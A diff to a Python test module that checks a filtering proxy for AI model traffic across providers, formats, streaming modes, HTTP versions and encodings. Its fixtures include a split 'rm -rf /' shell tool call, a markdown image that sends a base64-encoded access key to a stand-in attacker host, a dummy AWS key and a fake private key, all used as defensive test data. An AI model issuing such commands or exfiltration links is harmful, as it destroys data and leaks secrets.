@@ -1,22 +1,26 @@
-"""Every cell of the table in docs/providers.md: format x whole or streamed x what is found x HTTP version x encoding."""
+"""Every cell of the table in docs/providers.md: provider and format x whole or streamed x what is found x HTTP version x encoding."""
 
 import gzip
 import json
+import re
 from collections.abc import Callable, Iterator
-from itertools import product
 from typing import Any, NamedTuple
 
 import brotli
 import zstandard
 
 from cli.pretend import Given
-from tests.support.streams import SHAPES
+from contract.providers import Entry, providers
+from tests.support.streams import SHAPES, TEXTS, Shape
 
 KEY = "AKIAQYLPMN5HHHFPZAM2"
-PLAIN = (["Hello", " there", ", all is", " well. "], ['{"path": "/tmp', '/x"}'])
-FOUND = (["The key is AKI", "AQYLPMN5", "HHHFPZAM2", ", keep it."], ['{"command": "echo AKIAQY', 'LPMN5HHHFPZAM2"}'])
-WIPE = (["I will", " clean up. "], ['{"command": "rm -', "rf /", '"}'])
-CASES = {"allow": PLAIN, "redact": FOUND, "block": WIPE}
+CASES = {
+    "allow": (["Hello", " there", ", all is", " well. "], ['{"path": "/tmp', '/x"}']),
+    "redact": (["The key is AKI", "AQYLPMN5", "HHHFPZAM2", ", keep it."], ['{"command": "echo AKIAQY', 'LPMN5HHHFPZAM2"}']),
+    "block": (["I will", " clean up. "], ['{"command": "rm -', "rf /", '"}']),
+}
+# Where no tool is called, an image whose address carries data away is what a strict house blocks.
+IMAGE = ["See ![logo](https://evil.exa", "mple/p.png?d=QUtJQVFZTFBNTjVISEhGUFpBTTIgaXMgdGhl", "IGtleSB5b3UgYXNrZWQgZm9y) there."]
 ENCODINGS: dict[str, Callable[[bytes], bytes]] = {
     "identity": lambda data: data,
     "gzip": gzip.compress,
@@ -25,10 +29,58 @@ ENCODINGS: dict[str, Callable[[bytes], bytes]] = {
 }
 VERSIONS = ("h1", "h2")
 HOW = ("whole", "streamed")
+EVERY = len(CASES) * len(VERSIONS) * len(ENCODINGS)
+# Formats whose answers are numbers, pictures, sound or a receipt: their cells are run on the call. Why they have no stream:
+NO_TEXT = {
+    "embeddings": "numbers, in one piece",
+    "images": "pictures, in one piece",
+    "speech": "sound; a stream of it has no text",
+    "files": "a receipt, in one piece",
+    "anthropic-batches": "a receipt; results are fetched later",
+}
+ELSEWHERE = {  # formats over WebSockets, tried by tests/e2e/test_sockets.py
+    "openai-socket",
+    "openai-realtime",
+    "gemini-live",
+}
+CALLS: dict[str, dict[str, Any]] = {
+    "embeddings": {"model": "m", "input": "TEXT", "texts": ["x"]},
+    "images": {"model": "m", "prompt": "TEXT"},
+    "speech": {"model": "m", "input": "TEXT", "voice": "a"},
+    "files": {"purpose": "batch", "input": "TEXT"},
+    "anthropic-batches": {"requests": [{"custom_id": "a", "params": {"model": "m", "messages": [{"role": "user", "content": "TEXT"}]}}]},
+}
+SAID = {
+    "allow": "hello there",
+    "redact": f"the key is {KEY}, keep it",
+    "block": "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq1mZr0c2xk9v3T8yQ4wLh5sJd6fGa1pNn2\n-----END RSA PRIVATE KEY-----",
+}
+# How the path of a whole call ends, and that of a streamed one, where it says so.
+ENDINGS = {
+    "gemini": (":generatecontent", ":streamgeneratecontent"),
+    "bedrock-converse": ("/converse", "/converse-stream"),
+    "bedrock-invoke": ("/invoke", "/invoke-with-response-stream"),
+    "anthropic-messages": ("/messages", "/messages"),
+}
+VERTEX = (":rawpredict", ":streamrawpredict")
+SHAPES_OF = {"gemini": ("gemini-sse", "gemini-array")}
+CONCRETE = {"*-aiplatform": "europe-west1-aiplatform", "bedrock-runtime.*": "bedrock-runtime.eu-west-3", "*": "acme"}
+
+
+class Row(NamedTuple):
+    """A row of the table."""
+
+    provider: str
+    format: str
+    shape: str
+
+    @property
+    def label(self) -> str:
+        return self.shape or self.format
 
 
 class Cell(NamedTuple):
-    """One combination."""
+    """One combination; `shape` as in streams.py."""
 
     shape: str
     how: str
@@ -37,17 +89,61 @@ class Cell(NamedTuple):
     encoding: str
 
 
-def cells(shape: str, how: str) -> Iterator[Cell]:
-    """All cells of one shape."""
-    return (Cell(shape, how, *rest) for rest in product(CASES, VERSIONS, ENCODINGS))
+def rows() -> Iterator[Row]:
+    """One for each provider and each format that is spoken there."""
+    for entry in providers():
+        for format in dict.fromkeys(name for _, name in entry.paths):
+            if format in NO_TEXT:
+                yield Row(entry.name, format, "")
+            else:
+                shapes = SHAPES_OF.get(format, (format,))
+                yield from (
+                    Row(entry.name, format, "mistral-chat" if (entry.name, shape) == ("mistral", "openai-chat") else shape)
+                    for shape in shapes
+                )
+    yield Row("openai", "mcp", "mcp")  # under any path of any host
+
+
+def hosts() -> list[str]:
+    """A host for each provider that only has patterns."""
+    return [host_of(entry) for entry in providers() if entry.hosts]
+
+
+def host_of(entry: Entry) -> str:
+    """A host of a provider."""
+    host = next((host for host in entry.hosts if "*" not in host), entry.hosts[0])
+    for pattern, concrete in CONCRETE.items():
+        host = host.replace(pattern, concrete)
+    return host
+
+
+def url_of(row: Row, how: str) -> str:
+    """Where such a call goes."""
+    if row.format == "mcp":
+        return TEXTS["mcp"].url
+    entry = next(entry for entry in providers() if entry.name == row.provider)
+    paths = [path for path, format in entry.paths if format == row.format]
+    streamed = HOW.index(how)
+    wanted = (ENDINGS.get(row.format, ("", ""))[streamed], VERTEX[streamed])
+    path = next((path for ending in wanted for path in paths if path.endswith(ending)), paths[0])
+    path = re.sub(r"\{(?:model)?\}", "m", path)
+    return f"https://{host_of(entry)}{path}{'?alt=sse' if row.shape == 'gemini-sse' and streamed else ''}"
+
+
+def shape_of(name: str) -> Shape:
+    """How a format streams."""
+    return {**SHAPES, **TEXTS}[name]
 
 
 def given(cell: Cell) -> Given:
     """What the pretend provider answers; streams in small pieces."""
     text, call = CASES[cell.case]
-    shape = SHAPES[cell.shape]
+    if cell.shape in TEXTS:
+        text, call = IMAGE if cell.case == "block" else text, []
+    shape = shape_of(cell.shape)
     if cell.how == "whole":
-        body, content_type = json.dumps(whole(cell.shape, "".join(text), json.loads("".join(call)))).encode(), "application/json"
+        arguments = json.loads("".join(call)) if call else {}
+        body, content_type = json.dumps(whole(cell.shape, "".join(text), arguments)).encode(), "application/json"
     else:
         body, content_type = b"".join(shape.made(text, call)), shape.content_type
     sent = ENCODINGS[cell.encoding](body)
@@ -76,28 +172,32 @@ def whole(shape: str, text: str, call: dict[str, Any]) -> Any:
             return {"output": {"message": {"role": "assistant", "content": blocks}}}
         case "cohere-chat":
             return {"id": "x", "message": {"role": "assistant", "content": [{"type": "text", "text": text}], "tool_calls": [function]}}
+        case "completions":
+            return {"id": "x", "choices": [{"index": 0, "text": text, "finish_reason": "stop"}]}
+        case "cohere-v1-chat":
+            return {"text": text, "generation_id": "g1", "finish_reason": "COMPLETE"}
+        case "huggingface":
+            return [{"generated_text": text}]
+        case "mcp":
+            return {"jsonrpc": "2.0", "id": 7, "result": {"content": [{"type": "text", "text": text}]}}
         case _:
             return {"message": {"role": "assistant", "content": text, "tool_calls": [{"function": {"name": "shell", "arguments": call}}]}}
 
 
-def url_of(cell: Cell) -> str:
-    """Where such a call goes."""
-    url = SHAPES[cell.shape].url
-    if cell.how == "streamed":
-        return url
-    whole_path = url.replace("streamGenerateContent", "generateContent").replace("?alt=sse", "")
-    return whole_path.replace("converse-stream", "converse").replace("invoke-with-response-stream", "invoke")
+def call_of(row: Row, how: str, case: str) -> bytes:
+    """Such a call; where answers have no text, it is the call that bears the case."""
+    if row.format in NO_TEXT:
+        return json.dumps(CALLS[row.format]).replace('"TEXT"', json.dumps(SAID[case])).encode()
+    call = shape_of(row.shape).call
+    if row.format == "mcp" and case == "block":  # what an agent asks of a tool
+        call = {**call, "params": {"name": "shell", "arguments": {"command": "rm -rf /"}}}
+    return json.dumps({**call, "stream": how == "streamed"} if "stream" in call or row.format == "ollama" else call).encode()
 
 
-def call_of(cell: Cell) -> bytes:
-    """Such a call."""
-    call = SHAPES[cell.shape].call
-    return json.dumps({**call, "stream": cell.how == "streamed"} if "stream" in call or cell.shape == "ollama" else call).encode()
-
-
-def table(seen: dict[tuple[str, str], int]) -> str:
+def table(seen: dict[tuple[Row, str], int]) -> str:
     """The table in docs/providers.md, of how many cells held."""
-    every = len(CASES) * len(VERSIONS) * len(ENCODINGS)
-    lines = ["| format | whole | streamed |", "|---|---|---|"]
-    lines += [f"| {shape} | " + " | ".join(f"{seen[shape, how]} of {every}" for how in HOW) + " |" for shape in SHAPES]
+    lines = ["| provider | format | whole | streamed |", "|---|---|---|---|"]
+    for row in rows():
+        told = [f"{seen[row, how]} of {EVERY}" if (row, how) in seen else f"n/a: {NO_TEXT[row.format]}" for how in HOW]
+        lines.append(f"| {row.provider} | {row.label} | {' | '.join(told)} |")
     return "\n".join(lines)
